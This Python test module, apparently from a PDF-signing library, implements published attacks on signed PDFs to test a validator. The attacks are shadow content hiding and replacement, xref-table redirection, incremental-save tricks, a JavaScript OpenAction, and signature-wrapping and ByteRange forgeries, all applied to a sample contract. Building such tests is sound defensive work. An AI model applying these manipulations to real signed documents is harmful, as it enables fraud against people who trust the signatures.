"""Attacks on signed PDFs that were published, made by hand: each takes a signed file and shows its reader something else.

Shadow attacks: Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021).
Signature wrapping, forgery and incremental saving: Mladenov and others, "1 Trillion Dollar Refund" (CCS 2019).
"""

import re
from collections.abc import Callable
from functools import cache
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from congso.signing import samples
from congso.signing.pades import forms
from congso.signing.pades.geometry import PERSONAL
from congso.signing.pades.signing import Hand, _sign
from congso.signing.pades.writing import open_revision
from congso.signing.tests import made

Attack = Callable[[bytes], bytes]


@cache
def prepared() -> bytes:
    """A contract with everything an attacker needs already inside: a white cover over the price, a second page that is
    not shown, a form field, a note, a font that only the field uses."""
    output = BytesIO()
    with pikepdf.new() as pdf:
        font = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Courier
            )
        )
        cover = pdf.make_stream(b"1 1 1 rg 0 0 200 40 re f")
        cover.Type, cover.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        cover.BBox = [0, 0, 200, 40]
        for words in (b"Gia 100 dong", b"Gia 999 dong"):
            page = pdf.add_blank_page(page_size=(595, 842))
            page.Contents = pdf.make_stream(
                b"BT /F 14 Tf 80 700 Td (" + words + b") Tj ET q 1 0 0 1 80 600 cm /C Do Q"
            )
            page.Resources = pikepdf.Dictionary(Font={"/F": font}, XObject={"/C": cover})
        pdf.Root.Shadow = pdf.pages[1].obj
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([_value_field(pdf, font), _note(pdf)]))
        del pdf.pages[1]
        fields = pikepdf.Array([pdf.pages[0].Annots[0]])
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pdf.make_indirect(fields)))
        pdf.save(output, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return output.getvalue()


def _value_field(pdf: pikepdf.Pdf, font: pikepdf.Object) -> pikepdf.Object:
    look = pdf.make_stream(b"/Tx BMC BT /F 12 Tf 2 4 Td (100) Tj ET EMC")
    look.Type, look.Subtype, look.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 80, 20]
    look.Resources = pikepdf.Dictionary(Font={"/F": font})
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="gia", V="100", F=4,
        Rect=[80, 500, 160, 520], AP={"/N": look}, DA="/F 12 Tf",
    )  # fmt: skip
    return pdf.make_indirect(field)


def _note(pdf: pikepdf.Pdf) -> pikepdf.Object:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FreeText, Rect=[80, 400, 200, 420], Contents="100", F=4
    )
    return pdf.make_indirect(note)


@cache
def contract() -> bytes:
    """Signed without any certification, the kind that forbids the least."""
    box = samples.boxes()[PERSONAL]
    pdf = forms.prepare_form(prepared(), {PERSONAL: box})
    revision = open_revision(pdf)
    return _sign(revision, PERSONAL, Hand(samples.person(), samples.MOMENT))


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(pdf), strict=False)


def _saved(writer: IncrementalPdfFileWriter) -> bytes:
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _stream(data: bytes) -> generic.StreamObject:
    return generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 200, 40))),
        },
        stream_data=data,
    )


def hide_by_emptying_the_cover(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    cover = _page(writer)["/Resources"]["/XObject"]["/C"]
    cover._data, cover._encoded_data = b"", None
    writer.mark_update(cover.container_ref)
    return _saved(writer)


def hide_by_taking_the_cover_off(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    page = _page(writer)
    page["/Resources"][pdf_name("/XObject")] = generic.DictionaryObject()
    writer.update_container(page["/Resources"])
    return _saved(writer)


def hide_by_freeing_the_cover(pdf: bytes) -> bytes:
    """The table alone says that the cover is no more; no object is written."""
    number = _page(_writer(pdf))["/Resources"]["/XObject"].raw_get("/C").idnum
    return appended_table(pdf, {number: b"0000000000 00001 f \n"})


def replace_the_font(pdf: bytes) -> bytes:
    """Other shapes under the same codes."""
    writer = _writer(pdf)
    font = _page(writer)["/Resources"]["/Font"]["/F"]
    font[pdf_name("/BaseFont")] = pdf_name("/Symbol")
    writer.update_container(font)
    return _saved(writer)


def replace_the_value(pdf: bytes) -> bytes:
    return _filled(pdf, "999", value=True)


def replace_the_look_of_the_value(pdf: bytes) -> bytes:
    """The value stays, its appearance speaks of another."""
    return _filled(pdf, "999", value=False)


def _filled(pdf: bytes, text: str, *, value: bool) -> bytes:
    writer = _writer(pdf)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    if value:
        field[pdf_name("/V")] = generic.pdf_string(text)
    look = _stream(f"BT /F 12 Tf 2 4 Td ({text}) Tj ET".encode())
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)})
    writer.update_container(field)
    return _saved(writer)


def hide_and_replace_by_the_tree(pdf: bytes) -> bytes:
    """The page that lay hidden among the signed bytes takes the place of the one that was shown."""
    writer = _writer(pdf)
    writer.root["/Pages"]["/Kids"][0] = writer.root.raw_get("/Shadow")
    writer.update_container(writer.root["/Pages"])
    return _saved(writer)


def hide_and_replace_by_the_table(pdf: bytes) -> bytes:
    """Nothing is written but a table that points the shown page's number at the hidden page."""
    writer = _writer(pdf)
    shown = writer.root["/Pages"]["/Kids"].raw_get(0).idnum
    hidden = writer.root.raw_get("/Shadow").idnum
    found = re.search(rb"(?m)^%d 0 obj\b" % hidden, pdf)
    assert found is not None
    return appended_table(pdf, {shown: b"%010d 00000 n \n" % found.start()})


def appended_table(pdf: bytes, rows: dict[int, bytes]) -> bytes:
    last = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    size = max(map(int, re.findall(rb"/Size (\d+)", pdf)))
    table = b"xref\n" + b"".join(b"%d 1\n%s" % row for row in sorted(rows.items()))
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + table + trailer % (size, root, last, len(pdf))


def change_a_note(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    note = _page(writer)["/Annots"][1].get_object()
    note[pdf_name("/Contents")] = generic.pdf_string("999")
    writer.update_container(note)
    return _saved(writer)


def take_a_note_away(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    page = _page(writer)
    del page["/Annots"][1]
    writer.update_container(page["/Annots"])
    return _saved(writer)


def add_a_page(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    pages = writer.root["/Pages"]
    pages["/Kids"].append(writer.root.raw_get("/Shadow"))
    pages[pdf_name("/Count")] = generic.NumberObject(2)
    writer.update_container(pages)
    return _saved(writer)


def add_a_script(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    action = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
    )
    writer.root[pdf_name("/OpenAction")] = writer.add_object(action)
    writer.update_root()
    return _saved(writer)


def add_a_field_over_the_page(pdf: bytes) -> bytes:
    """A widget of a new text field, as large as the page, that shows what the attacker likes."""
    writer = _writer(pdf)
    page = writer.find_page_for_modification(0)[0]
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): generic.pdf_string("phu"),
            pdf_name("/V"): generic.pdf_string("999"), pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): writer.add_object(_stream(b"1 1 1 rg 0 0 595 842 re f"))}
            ),
        }
    )  # fmt: skip
    reference = writer.add_object(field)
    writer.root["/AcroForm"]["/Fields"].append(reference)
    writer.update_container(writer.root["/AcroForm"]["/Fields"])
    writer.register_annotation(page, reference)
    return _saved(writer)


_BODY = b"\n4 0 obj\n<< /Length 44 >>\nstream\nBT /F 14 Tf 80 700 Td (Gia 999 dong) Tj ET    \nendstream\nendobj\n"


def save_without_table(pdf: bytes) -> bytes:
    """Viewers that mend files take the last object of a number, table or not."""
    return pdf + _BODY


def save_with_the_old_table(pdf: bytes) -> bytes:
    last = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    return pdf + _BODY + b"startxref\n%s\n%%%%EOF\n" % last


def save_with_a_trailer_alone(pdf: bytes) -> bytes:
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    return pdf + _BODY + b"trailer\n<< /Root %s >>\n%%%%EOF\n" % root


def save_before_a_lawful_revision(pdf: bytes) -> bytes:
    """Stray objects, then a revision that touches nothing."""
    return appended_table(save_without_table(pdf), {0: b"0000000000 65535 f \n"})


def save_behind_a_lawful_revision(pdf: bytes) -> bytes:
    return save_without_table(appended_table(pdf, {0: b"0000000000 65535 f \n"}))


_RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]( *)")


def _numbers(pdf: bytes) -> tuple[int, int, int]:
    before, behind, after = _RANGE.findall(pdf)[-1][:3]
    return int(before), int(behind), int(after)


def wrap(pdf: bytes) -> bytes:
    """The signed end moves back, into a remark; a copy of it with another range, and another page, stand before it.

    The digest still fits: the range leaves out what was put in between.
    """
    before, behind, after = _numbers(pdf)
    assert behind + after == len(pdf)
    end = pdf[behind:]
    evil_size = len(end) + len(_BODY) + 1
    moved = behind + evil_size
    numbers = b"/ByteRange [0 %d %d %d]" % (before, moved, after)
    evil = _RANGE.sub(lambda found: numbers.ljust(len(found[0])), end)
    assert len(evil) == len(end)
    return pdf[:behind] + evil + _BODY + b"%" + end


def leave_out_more(pdf: bytes) -> bytes:
    """The gap of the range grows over the bytes behind the signature."""
    before, behind, after = _numbers(pdf)
    return _ranged(pdf, b"0 %d %d %d" % (before, behind + 90, after - 90))


def _ranged(pdf: bytes, numbers: bytes) -> bytes:
    found = list(_RANGE.finditer(pdf))[-1]
    text = (b"/ByteRange [%s]" % numbers).ljust(found.end() - found.start())
    return pdf[: found.start()] + text + pdf[found.end() :]


def range_of_nothing(pdf: bytes) -> bytes:
    return _ranged(pdf, b"0 0 0 0")


def range_below_zero(pdf: bytes) -> bytes:
    return _ranged(pdf, b"0 -1 0 -1")


def range_of_two(pdf: bytes) -> bytes:
    return _ranged(pdf, b"0 %d" % len(pdf))


def range_that_is_null(pdf: bytes) -> bytes:
    found = list(_RANGE.finditer(pdf))[-1]
    return pdf[: found.start()] + b"/ByteRange null".ljust(len(found[0])) + pdf[found.end() :]


def no_range(pdf: bytes) -> bytes:
    return pdf.replace(b"/ByteRange", b"/BiteRange")


def _contents(pdf: bytes, contents: bytes) -> bytes:
    before, behind, _ = _numbers(pdf)
    return pdf[:before] + contents.ljust(behind - before) + pdf[behind:]


def contents_of_nothing(pdf: bytes) -> bytes:
    return _contents(pdf, b"<>")


def contents_of_zeros(pdf: bytes) -> bytes:
    before, behind, _ = _numbers(pdf)
    return _contents(pdf, b"<" + b"0" * (behind - before - 2) + b">")


def contents_that_are_null(pdf: bytes) -> bytes:
    return _contents(pdf, b"null")


def contents_of_another_file(pdf: bytes) -> bytes:
    other = made.signed()
    before, behind, _ = _numbers(other)
    mine = _numbers(pdf)
    digits = other[before:behind].strip(b"<>")[: mine[1] - mine[0] - 2]
    return _contents(pdf, b"<" + digits.ljust(mine[1] - mine[0] - 2, b"0") + b">")


SHADOWS: tuple[Attack, ...] = (
    hide_by_emptying_the_cover, hide_by_taking_the_cover_off, hide_by_freeing_the_cover, replace_the_font,
    replace_the_value, replace_the_look_of_the_value, hide_and_replace_by_the_tree, hide_and_replace_by_the_table,
)  # fmt: skip
AFTER: tuple[Attack, ...] = (
    change_a_note, take_a_note_away, add_a_page, add_a_script, add_a_field_over_the_page,
    made.with_note, made.with_stamp_on_page, made.with_other_content,
)  # fmt: skip
SAVES: tuple[Attack, ...] = (
    save_without_table, save_with_the_old_table, save_with_a_trailer_alone, save_before_a_lawful_revision,
    save_behind_a_lawful_revision,
)  # fmt: skip
FORGERIES: tuple[Attack, ...] = (
    wrap, leave_out_more, range_of_nothing, range_below_zero, range_of_two, range_that_is_null, no_range,
    contents_of_nothing, contents_of_zeros, contents_that_are_null, contents_of_another_file,
)  # fmt: skip
